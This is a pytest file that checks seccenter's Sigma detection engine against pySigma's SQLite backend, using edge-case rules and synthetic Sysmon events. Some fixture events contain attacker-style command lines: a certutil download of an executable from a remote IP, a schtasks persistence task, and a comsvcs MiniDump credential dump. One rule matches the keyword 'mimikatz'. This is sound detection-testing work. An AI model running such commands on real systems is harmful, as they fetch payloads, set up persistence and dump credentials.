"""Differential test: seccenter's Sigma engine against pySigma's SQLite backend, the method Zircolite uses.

The oracle puts the events into an in-memory SQLite table the way Zircolite does (one column per field; a column
holding only JSON integers is ``INTEGER``, every other column ``TEXT COLLATE NOCASE``; booleans stored as
``'true'``/``'false'``; a ``_raw`` column with the event's raw text for keyword rules), converts each rule with
``sqliteBackend`` and runs ``SELECT row_id FROM logs WHERE <rule>``. seccenter runs the same events through
``Engine`` (generated code and closures). Both must give the same (rule, event) pairs.

What is compared and what is not:

* Routing is not under test: the backend without a processing pipeline knows no logsource, so the oracle's hits
  are limited to the events whose logsource the rule applies to (``seccenter.detect.routing.applies``).
* Rules the backend cannot convert are skipped for the comparison, counted and printed.
* Events here hold no lists (a table column holds one value; Sigma's any-element semantics have no oracle), no NUL
  characters (SQLite's LIKE, GLOB and length() stop at the first one) and no two field names that differ only in
  case (SQLite column names ignore case): the table builder refuses all three.
* ``|re`` runs on the ``REGEXP`` function the backend's README asks the caller to register, made with seccenter's
  ``compile_search`` (Python ``re`` or RE2, as ``detect/regex.py`` picks), so regular-expression semantics are the
  same on both sides by construction; what is compared is the logic around.

Where the oracle is wrong, the difference is one of ``ORACLE_ERRORS``: each is named, explained, shown on the
edge-case events listed in ``ORACLE_ERROR_CASES`` (``test_oracle_error_is_real``) and corrected by a narrow
override of the backend or the connection. A mismatch counts as explained only if that correction alone (or all
of them together) turns the oracle's verdict into seccenter's; anything else fails the test. Where seccenter is
wrong, the case is listed in ``SECCENTER_FAULTS`` and xfailed (strict) one by one, so the suite documents it until
it is fixed; the random events keep clear of those inputs.

Each source file gets a table of its own (one Zircolite run reads one kind of log), so a column's type comes from
that file's events only.
"""

from __future__ import annotations

import functools
import ipaddress
import json
import re
import sqlite3
import subprocess
import sys
import uuid
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import hypothesis
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from sigma.backends.sqlite import sqliteBackend
from sigma.collection import SigmaCollection
from sigma.conditions import ConditionFieldEqualsValueExpression, ConditionValueExpression
from sigma.correlations import SigmaCorrelationRule
from sigma.exceptions import SigmaError
from sigma.rule import SigmaRule
from sigma.types import (
    SigmaBool,
    SigmaCIDRExpression,
    SigmaCompareExpression,
    SigmaExpansion,
    SigmaFieldReference,
    SigmaNumber,
    SigmaString,
    SpecialChars,
)

from seccenter.collect.interface import Position
from seccenter.collect.jsonlines import JsonLinesCollector
from seccenter.collect.registry import sniff
from seccenter.detect.engine import Engine
from seccenter.detect.regex import compile_search
from seccenter.detect.routing import applies
from seccenter.detect.sigma import CompiledRule, RulePipeline, RuleSet, load_rules, rule_files
from seccenter.events import Event, LogSource, Malformed, Origin
from seccenter.resources import samples, sigma_rules

REPO = Path(__file__).resolve().parent.parent
WORKLOADS = REPO.parent / "shared" / "bench" / "make_workloads.py"
PROCESS_CREATION = Path("sigma") / "rules" / "windows" / "process_creation"
WINDOWS_PROCESS = LogSource(product="windows", category="process_creation", service="sysmon")
SYSMON = {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "UtcTime": "2026-11-24 09:00:00.000"}

Pair = tuple[str, int]
"""(rule id, index of the event)"""


# --- oracle errors: where pySigma's SQLite backend (or SQLite) disagrees with Sigma ---------------------------


def _fold(text: str) -> str:
    """Unicode simple lower-case mapping, character by character (never changes the length)."""
    return "".join(char if len(lowered := char.lower()) != 1 else lowered for char in text)


def _nocase(left: str, right: str) -> int:
    left, right = _fold(left), _fold(right)
    return (left > right) - (left < right)


@functools.lru_cache(maxsize=4096)
def _like_regex(pattern: str, escape: str | None) -> re.Pattern[str]:
    pieces, chars = [], iter(pattern)
    for char in chars:
        if escape is not None and char == escape:
            pieces.append(re.escape(_fold(next(chars, ""))))
        elif char == "%":
            pieces.append(".*")
        elif char == "_":
            pieces.append(".")
        else:
            pieces.append(re.escape(_fold(char)))
    return re.compile("".join(pieces), re.DOTALL)


def _sql_text(value: Any) -> str:
    return value if isinstance(value, str) else str(value)


def _unicode_like(pattern: Any, value: Any, escape: str | None = None) -> bool | None:
    if pattern is None or value is None:
        return None
    return _like_regex(_sql_text(pattern), escape).fullmatch(_fold(_sql_text(value))) is not None


def _unicode_case(connection: sqlite3.Connection) -> None:
    connection.create_collation("NOCASE", _nocase)
    connection.create_function("like", 2, _unicode_like, deterministic=True)
    connection.create_function("like", 3, _unicode_like, deterministic=True)


_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
"""A number as JSON, Windows event XML or a CSV export write it: ASCII digits, no padding."""


def _sigma_number(value: Any) -> float | int | None:
    if isinstance(value, int | float):
        return value
    if isinstance(value, str) and _NUMBER.fullmatch(value):
        return float(value)
    return None


def _sigma_cidr(value: Any, network: str) -> bool:
    try:
        return ipaddress.ip_address(value) in ipaddress.ip_network(network)
    except (TypeError, ValueError):
        return False


def _eq_number(backend: sqliteBackend, cond: Any, state: Any) -> str:
    return f"sigma_number({backend.escape_and_quote_field(cond.field)})={cond.value}"


def _cidr(backend: sqliteBackend, cond: Any, state: Any) -> str:
    return f"sigma_cidr({backend.escape_and_quote_field(cond.field)}, '{cond.value.network}')"


@dataclass(frozen=True)
class OracleError:
    """A way the oracle is wrong, with the narrow correction that removes exactly that error."""

    name: str
    why: str
    backend: dict[str, Any] = field(default_factory=dict)
    """Attributes overriding ``sqliteBackend``'s for the corrected oracle."""
    connection: Callable[[sqlite3.Connection], None] | None = None


ORACLE_ERRORS = (
    OracleError(
        "ascii_only_case_folding",
        "SQLite's NOCASE collation and LIKE fold only A-Z, so 'AUTORITÄT' never equals 'autorität' and 'Jürgen' "
        "never 'JÜRGEN'; Sigma matches case-insensitively. Corrected by a NOCASE collation and a LIKE that fold "
        "every character by its Unicode simple lower-case mapping.",
        connection=_unicode_case,
    ),
    OracleError(
        "numbers_compared_as_text",
        "A field the event carries as text (or as a JSON float) lands in a TEXT column, where SQLite compares a "
        "rule's number as text: '4.0' != 4, '04' != 4, and in order comparisons 'nan' > 60000, 'true' > 60000, "
        "'-' <= 0, '7' > 60000. Sigma compares numbers by value and a non-number with none. Corrected by reading "
        "the field through sigma_number(): JSON numbers and ASCII number spellings by value, anything else NULL.",
        backend={"compare_op_expression": "sigma_number({field}) {operator} {value}",
                 "convert_condition_field_eq_val_num": _eq_number},
    ),
    OracleError(
        "boolean_matches_integer",
        "The backend writes 'Flag: true' as (Flag='true' OR Flag=1) so that a hand-built table storing booleans as "
        "1/0 matches too. The table here stores JSON booleans as 'true'/'false' (as Zircolite does), so a 1 in it "
        "is the number 1, not a boolean. Corrected by comparing with 'true'/'false' only.",
        backend={"bool_expression": "{field}={value}"},
    ),
    OracleError(
        "cidr_as_text_prefix",
        "SQLite has no address type: the backend expands a CIDR into LIKE prefixes ('10.%'), which also match text "
        "that is no address at all ('10.1.2.3 ', '10.evil'). Corrected by testing the address with ipaddress.",
        backend={"convert_condition_field_eq_val_cidr": _cidr},
    ),
    OracleError(
        "null_matches_empty",
        "'Field: null' is 'Field IS NULL' in the backend; seccenter also counts an empty string as null. The Sigma "
        "specification leaves null to the target ('The application of these values depends on the target SIEM "
        "system'), and SigmaHQ rules filter on both '' and null wherever it matters, so neither side is wrong; "
        "this records seccenter's choice. Corrected by 'Field IS NULL OR Field = '''.",
        backend={"field_null_expression": "({field} IS NULL OR {field} = '')"},
    ),
)
ERRORS_BY_NAME = {error.name: error for error in ORACLE_ERRORS}
ALL_CORRECTIONS = frozenset(ERRORS_BY_NAME)


# --- the oracle -------------------------------------------------------------------------------------------------


@dataclass
class Conversion:
    """Rules converted by (a corrected) sqliteBackend: WHERE clauses and the fields each rule reads."""

    where: dict[str, tuple[str, ...]] = field(default_factory=dict)
    fields: dict[str, tuple[str, ...]] = field(default_factory=dict)
    skipped: dict[str, str] = field(default_factory=dict)
    """rule (id or file) → why the backend could not convert it"""
    correlations: list[str] = field(default_factory=list)
    """correlation rules: they match over many events, so they are not compared here"""


RAW_COLUMN = "_raw"
SELECT_PREFIX = "SELECT * FROM logs WHERE "


@functools.cache
def _rule_texts(paths: tuple[Path, ...]) -> tuple[tuple[str, str], ...]:
    return tuple((str(path), path.read_text(encoding="utf-8")) for path in rule_files(paths))


def _parse(text: str) -> list[SigmaRule | SigmaCorrelationRule]:
    # References are left unresolved: resolving them turns off the output of a rule that a correlation uses
    # (``generate: false``), and this test compares every rule's single-event matches.
    return list(SigmaCollection.from_yaml(text, collect_errors=True, resolve_references=False).rules)


@functools.cache
def sigma_rules_of(paths: tuple[Path, ...]) -> tuple[SigmaRule, ...]:
    """pySigma rules of the files below ``paths``, parsed once, never converted (for walking their conditions)."""
    return tuple(rule for _, text in _rule_texts(paths) for rule in _parse(text)
                 if isinstance(rule, SigmaRule) and not rule.errors)


@functools.cache
def convert(paths: tuple[Path, ...], corrections: frozenset[str] = frozenset()) -> Conversion:
    attributes: dict[str, Any] = {}
    for name in sorted(corrections):
        attributes.update(ERRORS_BY_NAME[name].backend)
    backend_class = type("CorrectedSqliteBackend", (sqliteBackend,), attributes) if attributes else sqliteBackend
    conversion = Conversion()
    for path, text in _rule_texts(paths):
        for rule in _parse(text):
            if isinstance(rule, SigmaCorrelationRule):
                conversion.correlations.append(str(rule.id))
                continue
            if rule.errors:
                conversion.skipped[path] = str(rule.errors[0])
                continue
            try:
                queries = backend_class(fulltext_field=RAW_COLUMN).convert_rule(rule)
            except SigmaError as error:
                conversion.skipped[str(rule.id)] = f"{type(error).__name__}: {error}"
                continue
            if not queries:
                conversion.skipped[str(rule.id)] = "the backend made no query"
                continue
            assert all(query.startswith(SELECT_PREFIX) for query in queries), queries
            conversion.where[str(rule.id)] = tuple(query[len(SELECT_PREFIX):] for query in queries)
            conversion.fields[str(rule.id)] = tuple(backend_class(fulltext_field=RAW_COLUMN).required_fields(rule))
    return conversion


_INT64 = range(-(1 << 63), 1 << 63)


def _cell(value: Any) -> Any:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int) and value not in _INT64:
        return str(value)  # SQLite integers are 64-bit; Zircolite keeps what does not fit as text
    if isinstance(value, list | dict):
        raise ValueError("a table column holds one value: events with lists are not compared")
    if isinstance(value, str) and "\x00" in value:
        raise ValueError("SQLite's LIKE and GLOB stop at the first NUL: events with NUL are not compared")
    return value


def _quote(name: str) -> str:
    return "`" + name.replace("`", "``") + "`"


_regexp_search = functools.lru_cache(maxsize=None)(compile_search)


def connect(corrections: frozenset[str]) -> sqlite3.Connection:
    connection = sqlite3.connect(":memory:")
    # the REGEXP the backend's README asks for: false for NULL
    connection.create_function("regexp", 2, lambda pattern, value: value is not None
                               and _regexp_search(pattern)(_sql_text(value)))
    connection.create_function("sigma_number", 1, _sigma_number, deterministic=True)
    connection.create_function("sigma_cidr", 2, _sigma_cidr, deterministic=True)
    for name in sorted(corrections):
        setup = ERRORS_BY_NAME[name].connection
        if setup is not None:
            setup(connection)
    return connection


def load_table(connection: sqlite3.Connection, events: Sequence[Event], rule_fields: Iterable[str]) -> None:
    """Zircolite's layout: a column per field, INTEGER when the field only ever holds JSON integers."""
    kinds: dict[str, set[type]] = {}
    for event in events:
        for name, value in event.fields.items():
            kinds.setdefault(name, set())
            if value is not None:
                kinds[name].add(type(value) if not (type(value) is int and value not in _INT64) else str)
    for name in rule_fields:
        if name != RAW_COLUMN:
            kinds.setdefault(name, set())
    seen: dict[str, str] = {}
    for name in kinds:
        if name.casefold() in seen or name.casefold() in (RAW_COLUMN, "row_id"):
            raise ValueError(f"fields {name!r} and {seen.get(name.casefold())!r} would be one SQLite column")
        seen[name.casefold()] = name
    names = list(kinds)
    columns = ", ".join(f"{_quote(name)} {'INTEGER' if kinds[name] == {int} else 'TEXT COLLATE NOCASE'}"
                        for name in names)
    connection.execute(f"CREATE TABLE logs (row_id INTEGER PRIMARY KEY, {RAW_COLUMN} TEXT"
                       + (f", {columns}" if columns else "") + ")")
    placeholders = ", ".join("?" for _ in range(len(names) + 2))
    column_list = ", ".join(["row_id", RAW_COLUMN, *map(_quote, names)])
    connection.executemany(
        f"INSERT INTO logs ({column_list}) VALUES ({placeholders})",
        ((index, event.raw.decode("latin-1") if isinstance(event.raw, bytes) else event.raw,
          *(_cell(event.fields.get(name)) for name in names)) for index, event in enumerate(events)))


def oracle_pairs(paths: tuple[Path, ...], events: Sequence[Event], rules: dict[str, CompiledRule],
                 corrections: frozenset[str] = frozenset(), only: Iterable[str] | None = None) -> set[Pair]:
    """The (rule, event) pairs the SQLite backend finds, limited to the events each rule's logsource sees.

    Each source file gets its own table, as each Zircolite run reads one kind of log."""
    conversion = convert(paths, corrections)
    wanted = conversion.where.keys() if only is None else set(only) & conversion.where.keys()
    files: dict[str, list[int]] = {}
    for index, event in enumerate(events):
        files.setdefault(event.origin.path, []).append(index)
    pairs: set[Pair] = set()
    for indexes in files.values():
        logsources = {events[index].logsource for index in indexes}
        here = [rule_id for rule_id in wanted if any(applies(rules[rule_id].logsource, ls) for ls in logsources)]
        connection = connect(corrections)
        try:
            load_table(connection, [events[index] for index in indexes],
                       {name for rule_id in here for name in conversion.fields[rule_id]})
            for rule_id in here:
                for where in conversion.where[rule_id]:
                    for (row,) in connection.execute(f"SELECT row_id FROM logs WHERE {where}"):
                        if applies(rules[rule_id].logsource, events[indexes[row]].logsource):
                            pairs.add((rule_id, indexes[row]))
        finally:
            connection.close()
    return pairs


# --- seccenter and the comparison -------------------------------------------------------------------------------


@functools.cache
def seccenter_rules(paths: tuple[Path, ...]) -> RuleSet:
    """The rules exactly as written (no source pipeline forms), as the oracle sees them."""
    return load_rules(paths, RulePipeline())


@functools.cache
def engine_for(paths: tuple[Path, ...], rule_ids: frozenset[str], generate_code: bool) -> Engine:
    return Engine([rule for rule in seccenter_rules(paths).rules if rule.id in rule_ids], generate_code=generate_code)


def seccenter_pairs(engine: Engine, events: Sequence[Event]) -> set[Pair]:
    return {(alert.rule_id, index) for index, event in enumerate(events) for alert in engine.match(event)}


@dataclass
class Comparison:
    rules: int
    skipped: dict[str, str]
    correlations: int
    events: int
    matches: int
    explained: dict[str, set[Pair]]
    """oracle error name → mismatches its correction explains"""
    unexplained: dict[str, set[Pair]]
    """"oracle only" / "seccenter only" → pairs no oracle error explains"""

    def summary(self) -> str:
        explained = ", ".join(f"{name}: {len(pairs)}" for name, pairs in sorted(self.explained.items())) or "none"
        unexplained = sum(map(len, self.unexplained.values()))
        return (f"{self.rules} rules compared ({len(self.skipped)} skipped: the SQLite backend could not convert "
                f"them; {self.correlations} correlation rules not compared), {self.events} events, "
                f"{self.matches} matches; oracle errors explaining mismatches: {explained}; unexplained: {unexplained}"
                + "".join(f"\n  skipped {rule}: {reason}" for rule, reason in sorted(self.skipped.items())))

    def describe(self, paths: tuple[Path, ...], events: Sequence[Event]) -> str:
        titles = {str(rule.id): rule.title for rule in sigma_rules_of(paths)}
        lines = []
        for side, pairs in self.unexplained.items():
            for rule_id, index in sorted(pairs):
                lines.append(f"{side}: rule {titles.get(rule_id)!r} ({rule_id}) event {events[index].fields!r}")
        return "\n".join(lines)


def compare(paths: tuple[Path, ...], events: Sequence[Event], generate_code: bool = True) -> Comparison:
    ruleset = seccenter_rules(paths)
    rules = {rule.id: rule for rule in ruleset.rules}
    conversion = convert(paths)
    missing = conversion.where.keys() - rules.keys()
    assert not missing, f"rules the backend converts but seccenter does not load: {missing}; {ruleset.errors}"
    engine = engine_for(paths, frozenset(conversion.where), generate_code)
    ours = seccenter_pairs(engine, events)
    raw = oracle_pairs(paths, events, rules)
    mismatched = raw ^ ours
    explained: dict[str, set[Pair]] = {}
    if mismatched:
        involved = {rule_id for rule_id, _ in mismatched}
        verdicts = {name: oracle_pairs(paths, events, rules, frozenset({name}), involved) for name in ERRORS_BY_NAME}
        verdicts["several of them"] = oracle_pairs(paths, events, rules, ALL_CORRECTIONS, involved)
        for pair in sorted(mismatched):
            for name, corrected in verdicts.items():
                if (pair in corrected) == (pair in ours):
                    explained.setdefault(name, set()).add(pair)
                    mismatched.discard(pair)
                    break
    unexplained = {"oracle only": mismatched - ours, "seccenter only": mismatched & ours}
    return Comparison(len(conversion.where), conversion.skipped, len(conversion.correlations), len(events),
                      len(ours), explained,
                      {side: pairs for side, pairs in unexplained.items() if pairs})


def assert_agree(paths: tuple[Path, ...], events: Sequence[Event], generate_code: bool = True) -> Comparison:
    comparison = compare(paths, events, generate_code)
    print(comparison.summary())
    assert not comparison.unexplained, comparison.describe(paths, events)
    return comparison


def collected(path: Path) -> list[Event]:
    collector = sniff(path.read_bytes()[:8192])
    assert collector is not None, f"no collector recognises {path}"
    with path.open("rb") as stream:
        records = list(collector.parse(stream, str(path), Position()))
    assert not [record for record in records if isinstance(record, Malformed)], f"malformed records in {path}"
    return [record for record in records if isinstance(record, Event)]


# --- rule sets ----------------------------------------------------------------------------------------------------

EDGE_RULES = {
    "numbers_eq": "sel:\n  ProcessId: 4\ncondition: sel",
    "numbers_gt": "sel:\n  ProcessId|gt: 60000\ncondition: sel",
    "numbers_lte": "sel:\n  ParentProcessId|lte: 0\ncondition: sel",
    "null_parent_cmdline": "sel:\n  Image|endswith: '\\cmd.exe'\n  ParentCommandLine: null\ncondition: sel",
    "empty_cmdline": "sel:\n  CommandLine: ''\ncondition: sel",
    "cmd_not_empty": "sel:\n  Image|endswith: '\\cmd.exe'\nfilter:\n  CommandLine: ''\ncondition: sel and not filter",
    "exists": "sel:\n  ParentUser|exists: true\n  Hashes|exists: false\ncondition: sel",
    "cased": "sel:\n  CommandLine|cased|contains: 'Invoke-Expression'\ncondition: sel",
    "single_wildcard": "sel:\n  Image: 'C:\\Windows\\System32\\\\?md.exe'\ncondition: sel",  # \\? : backslash, wildcard
    "inner_wildcard": "sel:\n  CommandLine: '*-enc *'\ncondition: sel",
    "escaped_wildcard": "sel:\n  CommandLine|contains: 'dir \\*.exe'\ncondition: sel",
    "sql_wildcard_chars": "sel:\n  CommandLine|contains:\n    - '%temp%'\n    - 'a_b'\ncondition: sel",
    "trailing_backslash": "sel:\n  CurrentDirectory|endswith: 'Temp\\'\ncondition: sel",
    "unc_path": "sel:\n  Image|startswith: '\\\\\\\\fileserver\\'\ncondition: sel",
    "bool_true": "sel:\n  Elevated: true\ncondition: sel",
    "cidr": "sel:\n  SourceIp|cidr: 10.0.0.0/8\ncondition: sel",
    "keyword": "keywords:\n  - mimikatz\ncondition: keywords",
    "non_ascii_literal": "sel:\n  User|contains: 'AUTORITÄT'\ncondition: sel",
    "regex_ignorecase": "sel:\n  CommandLine|re|i: 'whoami\\s+/all'\ncondition: sel",
    "fieldref": "sel:\n  User|fieldref: ParentUser\ncondition: sel",
    "float_as_text": "sel:\n  FileVersion|startswith: '10.0'\ncondition: sel",
    "one_of_not": ("sel_a:\n  Image|endswith: '\\whoami.exe'\nsel_b:\n  CommandLine|contains: '/priv'\n"
                   "filter:\n  User|startswith: 'NT AUTHORITY'\ncondition: 1 of sel_* and not filter"),
}


def edge_rule_id(name: str) -> str:
    return str(uuid.uuid5(uuid.NAMESPACE_URL, f"seccenter-differential/{name}"))


@pytest.fixture(scope="module")
def edge_rules(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, ...]:
    folder = tmp_path_factory.mktemp("edge_rules")
    for name, detection in EDGE_RULES.items():
        body = "\n".join("  " + line for line in detection.splitlines())
        (folder / f"{name}.yml").write_text(
            f"title: edge {name}\nid: {edge_rule_id(name)}\nstatus: test\nlevel: low\n"
            f"logsource:\n  product: windows\n  category: process_creation\ndetection:\n{body}\n", encoding="utf-8")
    return (folder,)


def corpus_rules(corpus: Path) -> tuple[Path, ...]:
    folder = corpus / PROCESS_CREATION
    if not folder.is_dir():
        pytest.skip(f"{PROCESS_CREATION} is not in the corpus")
    return (folder,)


# --- edge-case events ---------------------------------------------------------------------------------------------

EDGE_EVENTS: dict[str, dict[str, Any] | str] = {
    # mixed case
    "certutil_upper": {"Image": "C:\\WINDOWS\\SYSTEM32\\CERTUTIL.EXE",
                       "CommandLine": "CERTUTIL.EXE -URLCACHE -SPLIT -F http://198.51.100.9/p.exe C:\\Users\\Public"},
    "certutil_lower": {"Image": "c:\\windows\\system32\\certutil.exe",
                       "CommandLine": "certutil -urlcache -f http://x/p.exe p.exe", "OriginalFileName": "CertUtil.exe"},
    "invoke_expression_cased": {"CommandLine": "powershell Invoke-Expression $x"},
    "invoke_expression_lower": {"CommandLine": "powershell invoke-expression $x"},
    "whoami_priv_system": {"Image": "C:\\Windows\\System32\\WHOAMI.exe", "CommandLine": "whoami /PRIV",
                           "User": "nt authority\\system"},
    "whoami_priv_user": {"Image": "C:\\Windows\\System32\\whoami.exe", "CommandLine": "whoami /priv",
                         "User": "RATHAUS\\anna"},
    # wildcards and SQL pattern characters in values
    "star_in_value": {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe /c dir *.exe"},
    "escaped_star_in_value": {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe /c dir \\*.exe"},
    "percent_and_underscore": {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "echo %TEMP% a_b"},
    "underscore_is_no_wildcard": {"CommandLine": "echo %TMP% aXb"},
    "lone_percent": {"CommandLine": "echo 100% done"},
    "question_mark_matches_one": {"Image": "C:\\Windows\\System32\\xmd.exe", "CommandLine": "x -enc abc"},
    "question_mark_needs_one": {"Image": "C:\\Windows\\System32\\md.exe", "CommandLine": "-enc"},
    "brackets_and_quotes": {"CommandLine": "cmd /c \"echo [a-z]* 'x' ? `y`\""},
    # backslashes
    "doubled_backslashes": {"Image": "C:\\\\Windows\\\\System32\\\\whoami.exe", "CommandLine": "whoami   /ALL"},
    "forward_slashes": {"Image": "C:/Windows/System32/whoami.exe", "CommandLine": "whoami /all"},
    "trailing_backslash": {"Image": "C:\\Windows\\System32\\whoami.exe\\", "CommandLine": "whoami\t/all",
                           "CurrentDirectory": "C:\\Windows\\Temp\\"},
    "no_trailing_backslash": {"CurrentDirectory": "C:\\Windows\\Temp"},
    "unc_image": {"Image": "\\\\fileserver\\share\\tool.exe", "CommandLine": "\\\\fileserver\\share\\tool.exe"},
    "unc_single_backslash": {"Image": "\\fileserver\\share\\tool.exe"},
    # empty strings, missing fields, JSON null
    "empty_cmdline": {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": ""},
    "empty_cmdline_and_parent": {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "",
                                 "ParentCommandLine": ""},
    "missing_cmdline": {"Image": "C:\\Windows\\System32\\cmd.exe"},
    "null_parent_cmdline": {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd",
                            "ParentCommandLine": None},
    "only_channel": {},
    "image_null": {"Image": None, "CommandLine": None},
    "image_empty": {"Image": "", "User": "", "ParentUser": ""},
    "image_dash": {"Image": "-", "User": "-"},
    "image_system": {"Image": "System"},
    "image_without_extension": {"Image": "C:\\x\\a.EXE", "ParentUser": "x", "Hashes": "MD5=00"},
    "exists_parent_user": {"ParentUser": "RATHAUS\\ben"},
    # numbers as numbers and as strings
    "pid_int_4": {"ProcessId": 4, "Image": ""},
    "pid_text_4": {"ProcessId": "4"},
    "pid_text_4_0": {"ProcessId": "4.0"},
    "pid_float_4": {"ProcessId": 4.0},
    "pid_text_leading_zero": {"ProcessId": "04"},
    "pid_text_exponent": {"ProcessId": "4e0"},
    "pid_text_plus": {"ProcessId": "+4"},
    "pid_hex": {"ProcessId": "0x4"},
    "pid_int_big": {"ProcessId": 60001},
    "pid_text_big": {"ProcessId": "60001"},
    "pid_text_small": {"ProcessId": "7"},
    "pid_text_exponent_big": {"ProcessId": "1e5"},
    "pid_text_overflow": {"ProcessId": "1e999"},
    "pid_fraction": {"ProcessId": 65535.5},
    "pid_true": {"ProcessId": True},
    "pid_nan": {"ProcessId": "nan"},
    "pid_beyond_int64": {"ProcessId": (1 << 63) + 5},
    "ppid_zero": {"ParentProcessId": 0},
    "ppid_text_negative": {"ParentProcessId": "-1"},
    "ppid_text_zero": {"ParentProcessId": "0"},
    "ppid_empty": {"ParentProcessId": ""},
    "ppid_dash": {"ParentProcessId": "-"},
    "ppid_word": {"ParentProcessId": "abc"},
    # booleans
    "elevated_true": {"Elevated": True},
    "elevated_text_true": {"Elevated": "true"},
    "elevated_text_upper": {"Elevated": "TRUE"},
    "elevated_int_1": {"Elevated": 1},
    "elevated_text_1": {"Elevated": "1"},
    "elevated_false": {"Elevated": False},
    # addresses
    "ip_inside": {"SourceIp": "10.1.2.3"},
    "ip_trailing_space": {"SourceIp": "10.1.2.3 "},
    "ip_outside": {"SourceIp": "100.1.2.3"},
    "ip_leading_zero": {"SourceIp": "010.1.2.3"},
    "ip_v6": {"SourceIp": "::ffff:10.1.2.3"},
    # keywords (searched in the raw line)
    "keyword_upper": {"CommandLine": "run MIMIKATZ now"},
    "keyword_other_field": {"Comment": "mimikatz"},
    "keyword_in_name": {"mimikatz": "x"},
    # unicode
    "unicode_upper_umlaut": {"User": "NT-AUTORITÄT\\SYSTEM"},
    "unicode_lower_umlaut": {"User": "nt-autorität\\system"},
    "unicode_mixed_umlaut": {"User": "NT-AUTORITäT\\SYSTEM"},
    "fieldref_ascii_case": {"User": "RATHAUS\\anna", "ParentUser": "rathaus\\ANNA"},
    "fieldref_umlaut_case": {"User": "RATHAUS\\Jürgen", "ParentUser": "rathaus\\JÜRGEN"},
    "fieldref_different": {"User": "RATHAUS\\anna", "ParentUser": "RATHAUS\\ben"},
    "fieldref_one_missing": {"User": "RATHAUS\\anna"},
    "kelvin_sign": {"Image": "C:\\Windows\\System32\\schtas\u212as.exe",
                    "CommandLine": "schtas\u212as /create /sc minute /tr C:\\Users\\Public\\p.exe"},
    "schtasks_upper": {"Image": "C:\\Windows\\System32\\SCHTASKS.EXE",
                       "CommandLine": "SCHTASKS /CREATE /SC MINUTE /MO 5 /TN Updater /TR C:\\Users\\Public\\p.exe"},
    "unicode_path": {"Image": "C:\\Users\\Jürgen\\AppData\\Local\\Temp\\rundll32.exe",
                     "CommandLine": "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 l.dmp full"},
    "right_to_left_override": {"Image": "C:\\Windows\\System32\\notepad.exe", "CommandLine": "notepad \u202etxt.exe",
                               "User": "a", "ParentUser": "b"},
    "rtlo_as_escape_text": {"Image": "C:\\Windows\\System32\\notepad.exe", "CommandLine": "notepad \\u202e"},
    "emoji_and_cjk": {"Image": "C:\\Users\\用户\\😀.exe", "CommandLine": "😀 mimikatz 用户"},
    "dotless_i": {"Image": "C:\\Windows\\System32\\ıMD.exe", "CommandLine": "whoamı /all"},
    "sharp_s": {"CommandLine": "STRAẞE straße", "User": "NT-AUTORITÄT"},
    # a JSON float with a fraction
    "float_version": {"FileVersion": 10.01},
    "text_version": {"FileVersion": "10.0.19041.1"},
}


def edge_event(name: str, data: dict[str, Any] | str, index: int = 0) -> Event:
    line = data if isinstance(data, str) else json.dumps({**SYSMON, **data}, ensure_ascii=False)
    event = JsonLinesCollector().parse_line(line, Origin(f"edge/{name}", 0, index + 1))
    assert event.logsource == WINDOWS_PROCESS
    return event


@dataclass(frozen=True)
class SeccenterFault:
    """A case where seccenter is wrong: the oracle (not one of its known errors) says what Sigma means."""

    rule: str
    line: str
    expected: bool
    why: str


SECCENTER_FAULTS = {
    "number_in_non_ascii_digits": SeccenterFault(
        "numbers_eq", json.dumps({**SYSMON, "ProcessId": "\u0664"}), False,
        "ProcessId: 4 matches the text '\u0664' (ARABIC-INDIC DIGIT FOUR): matchers._number_test reads numbers "
        "with float(), which accepts any Unicode decimal digit (also fullwidth '\uff14')."),
    "number_with_digit_underscore": SeccenterFault(
        "numbers_eq", json.dumps({**SYSMON, "ProcessId": "0_4"}), False,
        "ProcessId: 4 matches the text '0_4': float() accepts Python's digit-grouping underscores ('6_0001' is "
        "60001), which no log writes as a number."),
    "number_with_padding": SeccenterFault(
        "numbers_eq", json.dumps({**SYSMON, "ProcessId": " 4\n"}), False,
        "ProcessId: 4 matches the text ' 4\\n': float() strips surrounding whitespace, whereas every string "
        "comparison in seccenter is exact; a padded value is text, not the number."),
    "single_wildcard_on_dotted_capital_i": SeccenterFault(
        "single_wildcard", json.dumps({**SYSMON, "Image": "C:\\Windows\\System32\\\u0130md.exe"}), True,
        "Image: 'C:\\Windows\\System32\\?md.exe' does not match '...\\System32\\\u0130md.exe': the event text is "
        "lower-cased with str.lower(), which turns U+0130 into two code points ('i' + U+0307), so '?' (one "
        "character) no longer fits. Case folding must not change the length (fold per character, or match globs "
        "with re.IGNORECASE)."),
    "integral_json_float_as_text": SeccenterFault(
        "float_as_text", '{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "FileVersion": 10.0}',
        True,
        "FileVersion|startswith: '10.0' does not match the JSON number 10.0: matchers._as_text (and codegen._text) "
        "render an integral float as '10', so a string rule written as the log writes the value cannot match it."),
}


FIXED_FAULTS = {"number_in_non_ascii_digits", "number_with_digit_underscore", "number_with_padding",
                "integral_json_float_as_text"}
"""Faults found by this test and fixed since: they stay here as ordinary regression cases."""


def seccenter_fault_trigger(fields: dict[str, Any]) -> str | None:
    """The known seccenter fault an event would run into (the hypothesis tests keep clear of these)."""
    for value in fields.values():
        if isinstance(value, float) and value.is_integer():
            return "integral_json_float_as_text"
        if not isinstance(value, str):
            continue
        if "\u0130" in value:
            return "single_wildcard_on_dotted_capital_i"
        try:
            float(value)
        except ValueError:
            continue
        if not value.isascii():
            return "number_in_non_ascii_digits"
        if "_" in value:
            return "number_with_digit_underscore"
        if value != value.strip():
            return "number_with_padding"
    return None


